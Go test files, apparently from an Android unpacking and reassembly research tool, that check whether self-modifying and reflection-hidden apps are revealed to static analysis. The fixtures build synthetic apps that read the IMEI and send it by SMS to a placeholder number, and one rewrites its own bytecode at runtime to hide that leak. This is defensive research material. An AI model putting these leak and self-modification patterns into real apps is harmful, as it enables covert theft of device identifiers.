	main := p.Class("Lsimple/Main;", "Landroid/app/Activity;")
	main.Ctor("Landroid/app/Activity;", nil)
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.LogLeak("t", 0, 2)
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("simple", "1.0", "Lsimple/Main;")
	if err != nil {
		t.Fatal(err)
	}
	return pkg
}

func TestRoundTripPreservesBehavior(t *testing.T) {
	pkg := buildSimpleLeakAPK(t)
	res := collectApp(t, pkg, nil, func(rt *art.Runtime) { launch(t, rt) })
	rt2, _, f := revealAndReload(t, pkg, res, nil)
	launch(t, rt2)
	sinks := rt2.Sinks()
	if len(sinks) != 1 || !sinks[0].Taint.Has(apimodel.TaintIMEI) {
		t.Fatalf("revealed app sinks = %+v", sinks)
	}
	if f.FindClass("Lsimple/Main;") == nil {
		t.Error("revealed dex lacks main class")
	}
}

// buildSelfModAPK reproduces Code 1 and returns the APK plus the tamper
// native.
func buildSelfModAPK(t *testing.T) (*apk.APK, map[string]art.NativeFunc) {
	t.Helper()
	p := dexgen.New()
	main := p.Class("Lcom/test/Main;", "Landroid/app/Activity;")
	main.Ctor("Landroid/app/Activity;", nil)
	main.Native("bytecodeTamper", "V", "I")
	main.Virtual("getSensitiveData", "Ljava/lang/String;", nil, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.ReturnObj(0)
	})
	main.Virtual("normal", "V", []string{"Ljava/lang/String;"}, func(a *dexgen.Asm) {
		a.ReturnVoid()
	})
	main.Virtual("sink", "V", []string{"Ljava/lang/String;"}, func(a *dexgen.Asm) {
		a.SendSMS("800-123-456", a.P(0), 0)
		a.ReturnVoid()
	})
	main.Virtual("advancedLeak", "V", nil, func(a *dexgen.Asm) {
		a.InvokeVirtual("Lcom/test/Main;", "getSensitiveData", "()Ljava/lang/String;", a.This())
		a.MoveResultObject(0)
		a.Const(1, 0)
		a.Label("loop")
		a.Const(2, 2)
		a.If(bytecode.OpIfGe, 1, 2, "end")
		a.InvokeVirtual("Lcom/test/Main;", "normal", "(Ljava/lang/String;)V", a.This(), 0)
		a.InvokeVirtual("Lcom/test/Main;", "bytecodeTamper", "(I)V", a.This(), 1)
		a.AddLit(1, 1, 1)
		a.Goto("loop")
		a.Label("end")
		a.ReturnVoid()
	})
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.InvokeVirtual("Lcom/test/Main;", "advancedLeak", "()V", a.This())
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("com.test", "1.0", "Lcom/test/Main;")
	if err != nil {
		t.Fatal(err)
	}
	tamper := func(env *art.Env, recv *art.Object, args []art.Value) (art.Value, error) {
		i := args[0].Int
		return art.Value{}, env.TamperMethod("Lcom/test/Main;", "advancedLeak",
			func(insns []uint16) []uint16 {
				f := env.Runtime().LoadedDexes()[0]
				findIdx := func(name string) uint16 {
					for mi := range f.Methods {
						if f.MethodAt(uint32(mi)).Name == name {
							return uint16(mi)
						}
					}
					t.Fatalf("no method %s", name)
					return 0
				}
				for pc := 0; pc < len(insns); {
					in, w, err := bytecode.Decode(insns, pc)
					if err != nil {
						t.Fatalf("tamper decode: %v", err)
					}
					if in.Op == bytecode.OpInvokeVirtual {
						name := f.MethodAt(in.Index).Name
						if i == 0 && name == "normal" {
							insns[pc+1] = findIdx("sink")
							return nil
						}
						if i == 1 && name == "sink" {
							insns[pc+1] = findIdx("normal")
							return nil
						}
					}
					pc += w
					if pw, ok := bytecode.PayloadAt(insns, pc); ok {
						pc += pw
					}
				}
				return nil
			})
	}
	return pkg, map[string]art.NativeFunc{"Lcom/test/Main;->bytecodeTamper(I)V": tamper}
}

// TestSelfModifyingReassembly is the paper's core scenario: the revealed DEX
// must statically contain BOTH the normal() and sink() calls inside
// advancedLeak, connected by the instrument-class branch, so the taint flow
// is visible to static analysis.
func TestSelfModifyingReassembly(t *testing.T) {
	pkg, natives := buildSelfModAPK(t)
	res := collectApp(t, pkg, natives, func(rt *art.Runtime) { launch(t, rt) })

	rec := res.Methods["Lcom/test/Main;->advancedLeak()V"]
	if rec == nil || len(rec.Trees) != 1 {
		t.Fatalf("advancedLeak record = %+v", rec)
	}
	tree := rec.Trees[0]
	if len(tree.Children) != 1 {
		t.Fatalf("tree children = %d, want 1 divergence layer", len(tree.Children))
	}
	child := tree.Children[0]
	if len(child.IL) != 1 {
		t.Errorf("divergence IL size = %d, want 1 (just the sink call)", len(child.IL))
	}
	if child.SmEnd < 0 {
		t.Error("divergence never converged")
	}

	_, _, f := revealAndReload(t, pkg, res, natives)
	em := f.FindMethod("Lcom/test/Main;", "advancedLeak", "()V")
	if em == nil {
		t.Fatal("revealed advancedLeak missing")
	}
	placed, err := bytecode.DecodeAll(em.Code.Insns)
	if err != nil {
		t.Fatal(err)
	}
	var calls []string
	usesInstrument := false
	for _, p := range placed {
		if p.Inst.Op.IsInvoke() {
			calls = append(calls, f.MethodAt(p.Inst.Index).Name)
		}
		if p.Inst.Op == bytecode.OpSGetBoolean &&
			f.FieldAt(p.Inst.Index).Class == reassembler.InstrumentClass {
			usesInstrument = true
		}
	}
	joined := strings.Join(calls, ",")
	if !strings.Contains(joined, "normal") || !strings.Contains(joined, "sink") {
		t.Errorf("revealed calls = %v, want both normal and sink", calls)
	}
	if !usesInstrument {
		t.Error("no instrument-class branch in revealed method")
	}
	if f.FindClass(reassembler.InstrumentClass) == nil {
		t.Error("instrument class missing from revealed dex")
	}
}

func TestDeadCodeElimination(t *testing.T) {
	p := dexgen.New()
	main := p.Class("Ldead/Main;", "Landroid/app/Activity;")
	main.Ctor("Landroid/app/Activity;", nil)
	// The sink call sits behind a branch that never executes.
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.Const(2, 0)
		a.IfZ(bytecode.OpIfEqz, 2, "skip")
		a.LogLeak("dead", 0, 3)
		a.Label("skip")
		a.ReturnVoid()
	})
	// An entire method that is never called.
	main.Virtual("neverCalled", "V", nil, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.LogLeak("dead2", 0, 2)
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("dead", "1.0", "Ldead/Main;")
	if err != nil {
		t.Fatal(err)
	}
	res := collectApp(t, pkg, nil, func(rt *art.Runtime) { launch(t, rt) })
	_, _, f := revealAndReload(t, pkg, res, nil)

	for _, name := range []string{"onCreate", "neverCalled"} {
		em := f.FindMethod("Ldead/Main;", name, "")
		if em == nil {
			t.Fatalf("revealed %s missing", name)
		}
		placed, err := bytecode.DecodeAll(em.Code.Insns)
		if err != nil {
			t.Fatal(err)
		}
		for _, pl := range placed {
			if pl.Inst.Op.IsInvoke() &&
				f.MethodAt(pl.Inst.Index).Class == "Landroid/util/Log;" {
				t.Errorf("%s: dead Log call survived reassembly", name)
			}
		}
	}
}

func TestReflectionRewriting(t *testing.T) {
	p := dexgen.New()
	main := p.Class("Lrefl/Main;", "Landroid/app/Activity;")
	main.Ctor("Landroid/app/Activity;", nil)
	main.Virtual("secretSource", "Ljava/lang/String;", nil, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.ReturnObj(0)
	})
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		// Build the class name from pieces so it is not a constant string.
		a.ConstString(0, "refl.")
		a.ConstString(1, "Main")
		a.InvokeVirtual("Ljava/lang/String;", "concat",
			"(Ljava/lang/String;)Ljava/lang/String;", 0, 1)
		a.MoveResultObject(0)
		a.InvokeStatic("Ljava/lang/Class;", "forName",
			"(Ljava/lang/String;)Ljava/lang/Class;", 0)
		a.MoveResultObject(0)
		a.ConstString(1, "secretSource")
		a.InvokeVirtual("Ljava/lang/Class;", "getMethod",
			"(Ljava/lang/String;)Ljava/lang/reflect/Method;", 0, 1)
		a.MoveResultObject(1)
		a.Const(2, 0)
		a.InvokeVirtual("Ljava/lang/reflect/Method;", "invoke",
			"(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;", 1, a.This(), 2)
		a.MoveResultObject(3)
		a.CheckCast(3, "Ljava/lang/String;")
		a.LogLeak("refl", 3, 4)
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("refl", "1.0", "Lrefl/Main;")
	if err != nil {
		t.Fatal(err)
	}
	res := collectApp(t, pkg, nil, func(rt *art.Runtime) { launch(t, rt) })
	rec := res.Methods["Lrefl/Main;->onCreate(Landroid/os/Bundle;)V"]
	if rec == nil || len(rec.ReflTargets) != 1 {
		t.Fatalf("refl targets = %+v", rec)
	}

	rt2, _, f := revealAndReload(t, pkg, res, nil)
	// The bridge class must exist and carry a direct call to secretSource.
	bridge := f.FindClass(reassembler.BridgeClass)
	if bridge == nil {
		t.Fatal("bridge class missing")
	}
	foundDirect := false
	for _, em := range bridge.DirectMeths {
		if em.Code == nil {
			continue
		}
		placed, err := bytecode.DecodeAll(em.Code.Insns)
		if err != nil {
			t.Fatal(err)
		}
		for _, pl := range placed {
			if pl.Inst.Op.IsInvoke() && f.MethodAt(pl.Inst.Index).Name == "secretSource" {
				foundDirect = true
			}
		}
	}
	if !foundDirect {
		t.Error("no direct call to secretSource in bridge")
	}
	// Behavior preserved: re-executing the revealed app still leaks.
	launch(t, rt2)
	sinks := rt2.Sinks()
	if len(sinks) != 1 || !sinks[0].Taint.Has(apimodel.TaintIMEI) {
		t.Fatalf("revealed reflective app sinks = %+v", sinks)
	}
}

func TestBranchUnionMerging(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Lbr/B;", "")
	cls.Static("pick", "I", []string{"I"}, func(a *dexgen.Asm) {
		a.IfZ(bytecode.OpIfNez, a.P(0), "pos")
		a.Const(0, 100)
		a.Return(0)
		a.Label("pos")
		a.Const(0, 200)
		a.Return(0)
	})
	f0, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	data, err := f0.Write()
	if err != nil {
		t.Fatal(err)
	}
	pkg := apk.New("br", "1", "")
	pkg.SetDex(data)

	rt := art.NewRuntime(art.DefaultPhone())
	col := collector.New()
	rt.AddHooks(col.Hooks())
	if err := rt.LoadAPK(pkg); err != nil {
		t.Fatal(err)
	}
	// Execute both sides: two trees collected, but they must union-merge
	// into one method body, not two variants.
	for _, v := range []int64{0, 1} {
		if _, err := rt.Call("Lbr/B;", "pick", "(I)I", nil, []art.Value{art.IntVal(v)}); err != nil {
			t.Fatal(err)
		}
	}
	res := col.Result()
	if got := len(res.Methods["Lbr/B;->pick(I)I"].Trees); got != 2 {
		t.Fatalf("unique trees = %d, want 2", got)
	}
	f, stats, err := reassembler.Reassemble(res)
	if err != nil {
		t.Fatal(err)
	}
	if stats.Variants != 0 {
		t.Errorf("variants = %d, want 0 (union merge)", stats.Variants)
	}
	// Reloaded method must compute both sides correctly.
	rt2 := art.NewRuntime(art.DefaultPhone())
	if _, err := rt2.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	for in, want := range map[int64]int64{0: 100, 5: 200} {
		res, err := rt2.Call("Lbr/B;", "pick", "(I)I", nil, []art.Value{art.IntVal(in)})
		if err != nil || res.Int != want {
			t.Errorf("revealed pick(%d) = %v, %v; want %d", in, res, err, want)
		}
	}
}

func TestTryCatchSurvivesReassembly(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Ltc/T;", "")
	cls.Method(dexgen.MethodSpec{Name: "safe", Ret: "I", Params: []string{"I"}, Static: true}, func(a *dexgen.Asm) {
		a.Label("ts")
		a.Const(0, 100)
		a.Binop(bytecode.OpDivInt, 0, 0, a.P(0))
		a.Label("te")
		a.Return(0)
		a.Label("h")
		a.MoveException(1)
		a.Const(0, -7)
		a.Return(0)
		a.Catch("ts", "te", "Ljava/lang/ArithmeticException;", "h")
	})
	f0, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	data, err := f0.Write()
	if err != nil {
		t.Fatal(err)
	}
	pkg := apk.New("tc", "1", "")
	pkg.SetDex(data)

	rt := art.NewRuntime(art.DefaultPhone())
	col := collector.New()
	rt.AddHooks(col.Hooks())
	if err := rt.LoadAPK(pkg); err != nil {
		t.Fatal(err)
	}
	// Execute both the normal and the exceptional path.
	for _, v := range []int64{4, 0} {
		if _, err := rt.Call("Ltc/T;", "safe", "(I)I", nil, []art.Value{art.IntVal(v)}); err != nil {
			t.Fatal(err)
		}
	}
	f, _, err := reassembler.Reassemble(col.Result())
	if err != nil {
		t.Fatal(err)
	}
	em := f.FindMethod("Ltc/T;", "safe", "(I)I")
	if em == nil || len(em.Code.Tries) == 0 {
		t.Fatal("try table lost in reassembly")
	}
	rt2 := art.NewRuntime(art.DefaultPhone())
	if _, err := rt2.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	for in, want := range map[int64]int64{4: 25, 0: -7} {
		res, err := rt2.Call("Ltc/T;", "safe", "(I)I", nil, []art.Value{art.IntVal(in)})
		if err != nil || res.Int != want {
			t.Errorf("revealed safe(%d) = %v, %v; want %d", in, res, err, want)
		}
	}
}

func TestCollectionFilesRoundTrip(t *testing.T) {
	pkg, natives := buildSelfModAPK(t)
	res := collectApp(t, pkg, natives, func(rt *art.Runtime) { launch(t, rt) })
	dir := t.TempDir()
	if err := res.WriteFiles(dir); err != nil {
		t.Fatal(err)
	}
	res2, err := collector.ReadFiles(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(res2.Classes) != len(res.Classes) {
		t.Errorf("classes = %d, want %d", len(res2.Classes), len(res.Classes))
	}
	if len(res2.Methods) != len(res.Methods) {
		t.Errorf("methods = %d, want %d", len(res2.Methods), len(res.Methods))
	}
	// Reassembling the reloaded result must still produce the dual-path
	// advancedLeak.
	f, _, err := reassembler.Reassemble(res2)
	if err != nil {
		t.Fatal(err)
	}
	em := f.FindMethod("Lcom/test/Main;", "advancedLeak", "()V")
	if em == nil {
		t.Fatal("advancedLeak missing after file round trip")
	}
	placed, err := bytecode.DecodeAll(em.Code.Insns)
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]bool{}
	for _, pl := range placed {
		if pl.Inst.Op.IsInvoke() {
			names[f.MethodAt(pl.Inst.Index).Name] = true
		}
	}
	if !names["normal"] || !names["sink"] {
		t.Errorf("calls after file round trip = %v", names)
	}
}

func TestStaticValuesPreserved(t *testing.T) {
	p := dexgen.New()
	main := p.Class("Lsv/Main;", "Landroid/app/Activity;")
	main.StaticString("PHONE", "800-123-456")
	main.StaticInt("LIMIT", 99)
	main.Ctor("Landroid/app/Activity;", nil)
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.SGetObject(0, "Lsv/Main;", "PHONE", "Ljava/lang/String;")
		a.LogLeak("sv", 0, 1)
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("sv", "1.0", "Lsv/Main;")
	if err != nil {
		t.Fatal(err)
	}
	res := collectApp(t, pkg, nil, func(rt *art.Runtime) { launch(t, rt) })
	_, _, f := revealAndReload(t, pkg, res, nil)
	cd := f.FindClass("Lsv/Main;")
	if cd == nil {
		t.Fatal("class missing")
	}
	found := map[string]bool{}
	for i, ef := range cd.StaticFields {
		ref := f.FieldAt(ef.Field)
		v := cd.StaticValues[i]
		switch ref.Name {
		case "PHONE":
			if v.Kind == dex.ValueString && f.String(v.Index) == "800-123-456" {
				found["PHONE"] = true
			}
		case "LIMIT":
			if v.Int == 99 {
				found["LIMIT"] = true
			}
		}
	}
	if !found["PHONE"] || !found["LIMIT"] {
		t.Errorf("static values not preserved: %v", found)
	}
}
