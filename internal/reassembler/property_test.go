package reassembler_test

import (
	"fmt"
	"math/rand"
	"testing"

	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/collector"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
	"dexlego/internal/reassembler"
)

// genRandomMethod emits a random but well-formed method body: straight-line
// arithmetic blocks chained by forward conditional branches, one bounded
// counting loop, and an optional sparse switch. All control flow either
// moves forward or decrements a bounded counter, so every generated method
// terminates.
func genRandomMethod(a *dexgen.Asm, rng *rand.Rand) {
	blocks := rng.Intn(5) + 3
	ops := []bytecode.Opcode{
		bytecode.OpAddInt, bytecode.OpSubInt, bytecode.OpMulInt,
		bytecode.OpXorInt, bytecode.OpOrInt, bytecode.OpAndInt,
	}
	a.Move(0, a.P(0)) // v0 = p0 (accumulator)
	a.Const(1, int64(rng.Intn(19))+1)

	// Bounded loop: iterate p0 % 5 times.
	a.BinopLit8(bytecode.OpRemIntLit8, 2, a.P(0), 5)
	a.IfZ(bytecode.OpIfLtz, 2, "blk0") // negative inputs skip the loop
	a.Label("loop")
	a.IfZ(bytecode.OpIfLez, 2, "blk0")
	a.Binop(bytecode.OpAddInt, 0, 0, 2)
	a.BinopLit8(bytecode.OpAddIntLit8, 2, 2, -1)
	a.Goto("loop")

	for b := 0; b < blocks; b++ {
		a.Label(fmt.Sprintf("blk%d", b))
		for i := rng.Intn(5) + 2; i > 0; i-- {
			op := ops[rng.Intn(len(ops))]
			a.Binop(op, 0, 0, 1)
			if rng.Intn(3) == 0 {
				a.BinopLit8(bytecode.OpAddIntLit8, 1, 1, int64(rng.Intn(7))+1)
			}
		}
		// Occasionally branch forward over the next block.
		if b+1 < blocks && rng.Intn(2) == 0 {
			target := b + 1 + rng.Intn(blocks-b-1)
			cmp := []bytecode.Opcode{
				bytecode.OpIfEq, bytecode.OpIfNe, bytecode.OpIfLt, bytecode.OpIfGe,
			}[rng.Intn(4)]
			a.If(cmp, 0, 1, fmt.Sprintf("blk%d", target+0))
		}
		// Occasionally switch forward on the accumulator.
		if b+2 < blocks && rng.Intn(4) == 0 {
			a.BinopLit8(bytecode.OpAndIntLit8, 3, 0, 3)
			labels := []string{
				fmt.Sprintf("blk%d", b+1),
				fmt.Sprintf("blk%d", b+1+rng.Intn(blocks-b-1)),
			}
			a.SparseSwitch(3, []int32{0, 2}, labels)
		}
	}
	a.Label(fmt.Sprintf("blk%d", blocks))
	a.Return(0)
}

// TestRandomProgramRoundTrip is the soundness property of Section IV-C:
// executing a program under JIT collection and reassembling the result
// yields a program with identical observable behavior on the collected
// inputs.
func TestRandomProgramRoundTrip(t *testing.T) {
	inputs := []int64{-7, 0, 1, 5, 13, 42}
	for seed := int64(0); seed < 40; seed++ {
		seed := seed
		t.Run(fmt.Sprintf("seed%d", seed), func(t *testing.T) {
			rng := rand.New(rand.NewSource(seed))
			p := dexgen.New()
			cls := p.Class("Lrand/P;", "")
			nMethods := rng.Intn(3) + 1
			for m := 0; m < nMethods; m++ {
				m := m
				cls.Method(dexgen.MethodSpec{
					Name: fmt.Sprintf("f%d", m), Ret: "I",
					Params: []string{"I"}, Static: true, Locals: 6,
				}, func(a *dexgen.Asm) { genRandomMethod(a, rng) })
			}
			f0, err := p.Finish()
			if err != nil {
				t.Fatal(err)
			}
			data, err := f0.Write()
			if err != nil {
				t.Fatal(err)
			}
			pkg := apk.New("rand", "1", "")
			pkg.SetDex(data)

			// Execute everything under collection.
			rt := art.NewRuntime(art.DefaultPhone())
			col := collector.New()
			rt.AddHooks(col.Hooks())
			if err := rt.LoadAPK(pkg); err != nil {
				t.Fatal(err)
			}
			want := make(map[string]int64)
			staticInsns := f0.InstructionCount()
			for m := 0; m < nMethods; m++ {
				for _, in := range inputs {
					res, err := rt.Call("Lrand/P;", fmt.Sprintf("f%d", m), "(I)I",
						nil, []art.Value{art.IntVal(in)})
					if err != nil {
						t.Fatalf("original f%d(%d): %v", m, in, err)
					}
					want[fmt.Sprintf("%d/%d", m, in)] = res.Int
				}
			}

			// Collection must not blow up the code: unique instructions per
			// tree are bounded by the static body (Algorithm 1's dedup).
			for key, rec := range col.Result().Methods {
				for _, tree := range rec.Trees {
					if tree.Size() > staticInsns {
						t.Fatalf("%s: tree size %d exceeds whole-program %d",
							key, tree.Size(), staticInsns)
					}
				}
			}

			// Reassemble and re-execute on the same inputs.
			f1, _, err := reassembler.Reassemble(col.Result())
			if err != nil {
				t.Fatal(err)
			}
			bin, err := f1.Write()
			if err != nil {
				t.Fatalf("revealed dex does not serialize: %v", err)
			}
			f2, err := dex.Read(bin)
			if err != nil {
				t.Fatalf("revealed dex does not re-parse: %v", err)
			}
			rt2 := art.NewRuntime(art.DefaultPhone())
			if _, err := rt2.LoadDex(f2); err != nil {
				t.Fatal(err)
			}
			for m := 0; m < nMethods; m++ {
				for _, in := range inputs {
					res, err := rt2.Call("Lrand/P;", fmt.Sprintf("f%d", m), "(I)I",
						nil, []art.Value{art.IntVal(in)})
					if err != nil {
						t.Fatalf("revealed f%d(%d): %v", m, in, err)
					}
					if got, key := res.Int, fmt.Sprintf("%d/%d", m, in); got != want[key] {
						t.Errorf("f%d(%d) = %d after reassembly, want %d",
							m, in, got, want[key])
					}
				}
			}
		})
	}
}

// TestRandomTamperRoundTrip extends the property with self-modification: a
// native tamper flips an arithmetic opcode between executions; the
// reassembled method must preserve the behavior of BOTH observed states
// behind the instrument branch (baseline path replays the final state).
func TestRandomTamperRoundTrip(t *testing.T) {
	for seed := int64(0); seed < 15; seed++ {
		seed := seed
		t.Run(fmt.Sprintf("seed%d", seed), func(t *testing.T) {
			p := dexgen.New()
			cls := p.Class("Ltam/P;", "")
			cls.Native("flip", "V")
			cls.Static("g", "I", []string{"I"}, func(a *dexgen.Asm) {
				a.Move(0, a.P(0))
				a.Label("site")
				a.BinopLit8(bytecode.OpAddIntLit8, 0, 0, 5)
				a.InvokeStatic("Ltam/P;", "flip", "()V")
				a.Return(0)
			})
			f0, err := p.Finish()
			if err != nil {
				t.Fatal(err)
			}
			data, err := f0.Write()
			if err != nil {
				t.Fatal(err)
			}
			pkg := apk.New("tam", "1", "")
			pkg.SetDex(data)

			rng := rand.New(rand.NewSource(seed))
			alt := []bytecode.Opcode{
				bytecode.OpMulIntLit8, bytecode.OpXorIntLit8, bytecode.OpOrIntLit8,
			}[rng.Intn(3)]

			flip := func(env *art.Env, recv *art.Object, args []art.Value) (art.Value, error) {
				return art.Value{}, env.TamperMethod("Ltam/P;", "g",
					func(insns []uint16) []uint16 {
						for pc := 0; pc < len(insns); {
							in, w, err := bytecode.Decode(insns, pc)
							if err != nil {
								return nil
							}
							if in.Op == bytecode.OpAddIntLit8 {
								in.Op = alt
								units, err := bytecode.Encode(in)
								if err != nil {
									return nil
								}
								copy(insns[pc:], units)
								return nil
							}
							if in.Op == alt {
								in.Op = bytecode.OpAddIntLit8
								units, err := bytecode.Encode(in)
								if err != nil {
									return nil
								}
								copy(insns[pc:], units)
								return nil
							}
							pc += w
						}
						return nil
					})
			}

			rt := art.NewRuntime(art.DefaultPhone())
			rt.RegisterNative("Ltam/P;->flip()V", flip)
			col := collector.New()
			rt.AddHooks(col.Hooks())
			if err := rt.LoadAPK(pkg); err != nil {
				t.Fatal(err)
			}
			// Two executions observe both opcode states.
			var wantAdd, wantAlt int64
			r1, err := rt.Call("Ltam/P;", "g", "(I)I", nil, []art.Value{art.IntVal(9)})
			if err != nil {
				t.Fatal(err)
			}
			wantAdd = r1.Int
			r2, err := rt.Call("Ltam/P;", "g", "(I)I", nil, []art.Value{art.IntVal(9)})
			if err != nil {
				t.Fatal(err)
			}
			wantAlt = r2.Int
			if wantAdd == wantAlt {
				t.Skip("opcodes coincide on this input")
			}

			f1, stats, err := reassembler.Reassemble(col.Result())
			if err != nil {
				t.Fatal(err)
			}
			if stats.Variants == 0 && stats.Divergences == 0 {
				t.Fatal("self-modification not captured")
			}
			rt2 := art.NewRuntime(art.DefaultPhone())
			rt2.RegisterNative("Ltam/P;->flip()V",
				func(env *art.Env, recv *art.Object, args []art.Value) (art.Value, error) {
					return art.Value{}, nil // the revealed app needs no tampering
				})
			if _, err := rt2.LoadDex(f1); err != nil {
				t.Fatal(err)
			}
			// Baseline path (all instrument fields false) replays one state.
			res, err := rt2.Call("Ltam/P;", "g", "(I)I", nil, []art.Value{art.IntVal(9)})
			if err != nil {
				t.Fatal(err)
			}
			if res.Int != wantAdd && res.Int != wantAlt {
				t.Errorf("revealed g(9) = %d, want %d or %d", res.Int, wantAdd, wantAlt)
			}
			// Flipping the instrument fields replays the other state.
			mod, err := rt2.FindClass(reassembler.InstrumentClass)
			if err != nil {
				t.Fatal(err)
			}
			if err := rt2.EnsureInitialized(mod); err != nil {
				t.Fatal(err)
			}
			seen := map[int64]bool{res.Int: true}
			for name := range mod.Statics {
				mod.Statics[name] = art.BoolVal(true)
			}
			res2, err := rt2.Call("Ltam/P;", "g", "(I)I", nil, []art.Value{art.IntVal(9)})
			if err != nil {
				t.Fatal(err)
			}
			seen[res2.Int] = true
			if !seen[wantAdd] || !seen[wantAlt] {
				t.Errorf("revealed variants produce %v, want both %d and %d",
					seen, wantAdd, wantAlt)
			}
		})
	}
}
