package reassembler

import (
	"testing"

	"dexlego/internal/bytecode"
	"dexlego/internal/collector"
)

func entry(pc int, op bytecode.Opcode, lit int64) collector.Entry {
	return collector.Entry{DexPC: pc, Inst: bytecode.Inst{Op: op, Lit: lit}}
}

func tree(entries ...collector.Entry) *collector.TreeNode {
	n := &collector.TreeNode{IIM: map[int]int{}, SmStart: -1, SmEnd: -1}
	for _, e := range entries {
		n.IIM[e.DexPC] = len(n.IL)
		n.IL = append(n.IL, e)
	}
	return n
}

func TestMergeCompatibleTreesUnion(t *testing.T) {
	// Two executions covering different halves of the same code.
	a := tree(entry(0, bytecode.OpConst16, 1), entry(2, bytecode.OpConst16, 2))
	b := tree(entry(0, bytecode.OpConst16, 1), entry(4, bytecode.OpConst16, 3))
	merged := mergeCompatibleTrees([]*collector.TreeNode{a, b})
	if len(merged) != 1 {
		t.Fatalf("merged into %d trees, want 1", len(merged))
	}
	if got := merged[0].Size(); got != 3 {
		t.Errorf("union size = %d, want 3", got)
	}
	for _, pc := range []int{0, 2, 4} {
		if _, ok := merged[0].IIM[pc]; !ok {
			t.Errorf("pc %d missing from union", pc)
		}
	}
}

func TestMergeConflictingTreesStaySeparate(t *testing.T) {
	a := tree(entry(0, bytecode.OpConst16, 1))
	b := tree(entry(0, bytecode.OpConst16, 99)) // different bytecode at pc 0
	merged := mergeCompatibleTrees([]*collector.TreeNode{a, b})
	if len(merged) != 2 {
		t.Fatalf("conflicting trees merged: %d", len(merged))
	}
}

func TestMergeChildrenBySmStart(t *testing.T) {
	mkChild := func(parent *collector.TreeNode, smStart int, lit int64) *collector.TreeNode {
		c := &collector.TreeNode{
			IIM: map[int]int{smStart: 0}, SmStart: smStart, SmEnd: smStart + 2,
			Parent: parent,
		}
		c.IL = []collector.Entry{entry(smStart, bytecode.OpConst16, lit)}
		parent.Children = append(parent.Children, c)
		return c
	}
	a := tree(entry(0, bytecode.OpConst16, 1), entry(2, bytecode.OpConst16, 2))
	mkChild(a, 2, 50)
	b := tree(entry(0, bytecode.OpConst16, 1), entry(2, bytecode.OpConst16, 2))
	mkChild(b, 2, 50) // identical child: must merge
	mkChild(b, 0, 70) // new divergence point: must be added
	merged := mergeCompatibleTrees([]*collector.TreeNode{a, b})
	if len(merged) != 1 {
		t.Fatalf("merged into %d trees", len(merged))
	}
	if got := len(merged[0].Children); got != 2 {
		t.Fatalf("children = %d, want 2", got)
	}
	// Children must come out sorted by divergence point.
	if merged[0].Children[0].SmStart != 0 || merged[0].Children[1].SmStart != 2 {
		t.Errorf("children unsorted: %d, %d",
			merged[0].Children[0].SmStart, merged[0].Children[1].SmStart)
	}
	// And the original trees must not have been mutated (deep copies).
	if len(a.Children) != 1 {
		t.Errorf("input tree mutated: %d children", len(a.Children))
	}
}

func TestMergeConflictingChildrenKeepTreesApart(t *testing.T) {
	mk := func(childLit int64) *collector.TreeNode {
		root := tree(entry(0, bytecode.OpConst16, 1))
		c := &collector.TreeNode{
			IIM: map[int]int{0: 0}, SmStart: 0, SmEnd: 2, Parent: root,
		}
		c.IL = []collector.Entry{entry(0, bytecode.OpConst16, childLit)}
		root.Children = append(root.Children, c)
		return root
	}
	merged := mergeCompatibleTrees([]*collector.TreeNode{mk(5), mk(6)})
	if len(merged) != 2 {
		t.Fatalf("trees with conflicting children merged: %d", len(merged))
	}
}

func TestReassembleRejectsMissingSymbol(t *testing.T) {
	res := &collector.Result{
		Classes: []collector.ClassRecord{{
			Descriptor: "Lbad/C;",
			Superclass: "Ljava/lang/Object;",
			Methods: []collector.MethodShell{{
				Name: "f", Signature: "()V",
			}},
		}},
		Methods: map[string]*collector.MethodRecord{
			"Lbad/C;->f()V": {
				Class: "Lbad/C;", Name: "f", Signature: "()V",
				RegistersSize: 2, InsSize: 0,
				Trees: []*collector.TreeNode{tree(
					// const-string without its resolved Symbol.
					collector.Entry{DexPC: 0, Inst: bytecode.Inst{Op: bytecode.OpConstString, A: 0, Index: 3}},
					entry(2, bytecode.OpReturnVoid, 0),
				)},
			},
		},
	}
	if _, _, err := Reassemble(res); err == nil {
		t.Error("missing symbol must fail reassembly")
	}
}

func TestReassembleRejectsBadShape(t *testing.T) {
	res := &collector.Result{
		Classes: []collector.ClassRecord{{
			Descriptor: "Lbad/D;",
			Superclass: "Ljava/lang/Object;",
			Methods: []collector.MethodShell{{
				Name: "g", Signature: "()V",
			}},
		}},
		Methods: map[string]*collector.MethodRecord{
			"Lbad/D;->g()V": {
				Class: "Lbad/D;", Name: "g", Signature: "()V",
				RegistersSize: 1, InsSize: 5, // ins exceed registers
				Trees: []*collector.TreeNode{tree(entry(0, bytecode.OpReturnVoid, 0))},
			},
		},
	}
	if _, _, err := Reassemble(res); err == nil {
		t.Error("ins > registers must fail reassembly")
	}
}

func TestReassembleRejectsBadSignatureShell(t *testing.T) {
	res := &collector.Result{
		Classes: []collector.ClassRecord{{
